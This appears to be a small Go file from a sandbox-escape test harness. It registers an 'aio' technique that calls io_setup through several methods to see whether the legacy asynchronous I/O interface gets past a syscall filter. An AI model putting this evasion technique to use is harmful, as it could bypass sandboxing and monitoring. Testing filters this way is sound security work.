package main

import (
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["aio"] = tryAio }

// tryAio has the kernel read and write by the older asynchronous interface (io_setup), by which calls have no
// registers that a filter could check.
func tryAio() {
	for _, way := range attack.Ways {
		var context uintptr
		if way(206, 8, uintptr(unsafe.Pointer(&context)), 0, 0, 0, 0) == 0 {
			println("a ring")
		}
	}
}
